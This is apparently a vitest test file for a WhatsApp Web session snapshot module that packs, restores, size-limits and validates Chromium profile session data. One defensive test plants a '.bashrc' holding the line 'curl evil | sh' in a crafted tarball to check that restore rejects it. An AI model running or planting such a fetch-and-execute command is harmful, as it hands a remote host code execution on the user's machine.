import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as tar from 'tar';
import { describe, expect, it } from 'vitest';
import { packSession, restoreSession } from './session-snapshot.js';

const IDB = 'Default/IndexedDB/https_web.whatsapp.com_0.indexeddb.leveldb';

/** A Chromium profile as WhatsApp Web leaves it: the session in IndexedDB and Local Storage, the rest cache. */
function profile(root: string, key: string): string {
  const dir = path.join(root, 'session-channel-1');
  mkdirSync(path.join(dir, IDB), { recursive: true });
  mkdirSync(path.join(dir, 'Default/Local Storage/leveldb'), { recursive: true });
  mkdirSync(path.join(dir, 'Default/Cache/Cache_Data'), { recursive: true });
  writeFileSync(path.join(dir, IDB, '000003.log'), key);
  writeFileSync(path.join(dir, 'Default/Local Storage/leveldb/CURRENT'), 'MANIFEST-000001\n');
  writeFileSync(path.join(dir, 'Default/Cache/Cache_Data/data_1'), randomBytes(4096));
  writeFileSync(path.join(dir, 'Local State'), '{}');
  return dir;
}

const files = (dir: string): string[] => readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile())
  .map((e) => path.relative(dir, path.join(e.parentPath, e.name))).sort();

describe('WhatsApp Web session snapshots', () => {
  it('pack the session parts only, and unpack them into a folder on another machine', async () => {
    const a = profile(mkdtempSync(path.join(tmpdir(), 'wa-a-')), 'device-key-1');
    const snap = (await packSession(a))!;
    expect(snap.data.length).toBeLessThan(4096);

    const elsewhere = path.join(mkdtempSync(path.join(tmpdir(), 'wa-b-')), 'session-channel-1');
    expect(await restoreSession(elsewhere, snap)).toBe('restored');
    expect(files(elsewhere)).toEqual(['.omniline-snapshot', `${IDB}/000003.log`, 'Default/Local Storage/leveldb/CURRENT']);
    expect(readFileSync(path.join(elsewhere, IDB, '000003.log'), 'utf8')).toBe('device-key-1');
    expect(readdirSync(path.dirname(elsewhere))).toEqual(['session-channel-1']);
  });

  it('keep a folder that grew from the snapshot, replace one that did not', async () => {
    const a = profile(mkdtempSync(path.join(tmpdir(), 'wa-a-')), 'device-key-1');
    const snap = (await packSession(a))!;
    writeFileSync(path.join(a, IDB, '000003.log'), 'device-key-1, ratchet moved on');
    expect(await restoreSession(a, snap)).toBe('kept');
    expect(readFileSync(path.join(a, IDB, '000003.log'), 'utf8')).toBe('device-key-1, ratchet moved on');

    // Another node ran the number since and packed a newer session: this node's old folder is stale.
    const b = profile(mkdtempSync(path.join(tmpdir(), 'wa-b-')), 'device-key-2');
    const newer = (await packSession(b))!;
    expect(await restoreSession(a, newer)).toBe('restored');
    expect(readFileSync(path.join(a, IDB, '000003.log'), 'utf8')).toBe('device-key-2');
    expect(existsSync(path.join(a, 'Default/Cache'))).toBe(false);
    expect(await readFile(path.join(a, '.omniline-snapshot'), 'utf8')).toBe(newer.id);
  });

  it('refuse a snapshot that is not a gzip\'d tar, or holds anything but a session, leaving the folder as it was', async () => {
    const root = mkdtempSync(path.join(tmpdir(), 'wa-bad-'));
    const dir = profile(root, 'device-key-1');
    const before = files(dir);
    await expect(restoreSession(dir, { id: 'x', data: Buffer.from('not a tarball') })).rejects.toThrow();

    const evil = path.join(root, 'evil');
    mkdirSync(path.join(evil, 'Default/IndexedDB'), { recursive: true });
    writeFileSync(path.join(evil, 'Default/IndexedDB/ok'), 'ok');
    writeFileSync(path.join(evil, '.bashrc'), 'curl evil | sh');
    const file = path.join(root, 'evil.tgz');
    await tar.c({ gzip: true, cwd: evil, file, portable: true }, ['Default/IndexedDB', '.bashrc']);
    await expect(restoreSession(dir, { id: 'y', data: readFileSync(file) })).rejects.toThrow('the snapshot holds .bashrc, outside a session');
    expect(files(dir)).toEqual(before);
    expect(readdirSync(root).sort()).toEqual(['evil', 'evil.tgz', 'session-channel-1']);
  });

  it('pack nothing from a folder without a session, and refuse one that packs above the limit', async () => {
    const empty = mkdtempSync(path.join(tmpdir(), 'wa-empty-'));
    expect(await packSession(empty)).toBeNull();
    const dir = profile(mkdtempSync(path.join(tmpdir(), 'wa-big-')), 'k');
    writeFileSync(path.join(dir, IDB, '000004.ldb'), randomBytes(256 * 1024));
    await expect(packSession(dir, 128 * 1024)).rejects.toThrow(/packs to 0\.3 MiB, above the 0\.1 MiB/);
    expect(readdirSync(path.dirname(dir))).toEqual(['session-channel-1']);
  });
});
